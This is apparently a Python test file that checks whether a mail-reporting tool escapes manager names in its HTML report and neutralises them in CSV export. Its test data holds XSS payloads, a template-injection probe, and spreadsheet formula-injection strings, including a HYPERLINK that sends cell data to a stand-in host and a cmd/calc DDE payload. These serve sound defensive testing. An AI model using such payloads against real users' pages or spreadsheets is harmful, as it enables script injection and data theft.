"""`mailer report` writes names read from mail (a manager's display name as a recruiter wrote it, an address)
into an HTML page with inline script, and into CSV a spreadsheet opens: each shows as text, never as markup or a
formula, whatever it holds."""

import csv
from datetime import datetime, timedelta, timezone
import io
import json
from zoneinfo import ZoneInfo

import pytest

from helpers import make_config
from mailer.report.figures import Mentorship, SubmissionRecord, build
from mailer.report.html import page

MON = datetime(2026, 11, 2, 0, 0, tzinfo=timezone.utc)
MARKUP = ['<img src=x onerror=alert(1)>', '</style><script>alert(2)</script>', '" onmouseover="alert(3)']


def report_page(tmp_path, payload):
    config = make_config(tmp_path)
    records = [SubmissionRecord(manager="aaron@other.test", recruiter="rita@acme.test",
                                submitted_at=MON + timedelta(hours=10), answered_at=MON + timedelta(days=1),
                                nudges=1, manager_name=payload)]
    mentorships = [Mentorship(recruiter="rita@acme.test", mentor="maria@acme.test", started_at=MON)]
    report = build(records, mentorships, MON, MON + timedelta(weeks=1), config.calendar_for,
                   config.default_calendar, config.followups.steps[0].after)
    return page(report, ZoneInfo("Europe/London"), title=payload)


@pytest.mark.parametrize("payload", MARKUP)
def test_markup_in_a_name_read_from_mail_shows_as_text_in_the_report(tmp_path, payload):
    html = report_page(tmp_path, payload)
    assert payload not in html
    assert html.count("<script") == 1 and html.count("<img") == 0  # the page's own sorting script, nothing else
    escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
    assert html.count(escaped) >= 3  # the title, the heading, the manager's row


def test_a_template_expression_in_a_name_is_shown_not_evaluated(tmp_path):
    html = report_page(tmp_path, "{{ 7*7 }} {% if true %}x{% endif %}")
    assert html.count("{{ 7*7 }} {% if true %}x{% endif %}") >= 3 and ">49" not in html


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.test/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+1+1", "-2+3"])
def test_a_name_that_looks_like_a_formula_is_plain_text_in_the_csv(tmp_path, name):
    from mailer.report import rows
    config = make_config(tmp_path)
    records = [SubmissionRecord(manager="aaron@other.test", recruiter="rita@acme.test",
                                submitted_at=MON + timedelta(hours=10), manager_name=name)]
    report = build(records, [], MON, MON + timedelta(weeks=1), config.calendar_for, config.default_calendar,
                   config.followups.steps[0].after)
    [row] = list(csv.DictReader(io.StringIO(rows.to_csv(report, timezone.utc))))
    assert row["name"] == "'" + name and row["manager"] == "aaron@other.test"
    assert json.loads(rows.to_json(report, timezone.utc))["managers"][0]["name"] == name  # JSON keeps the value as read
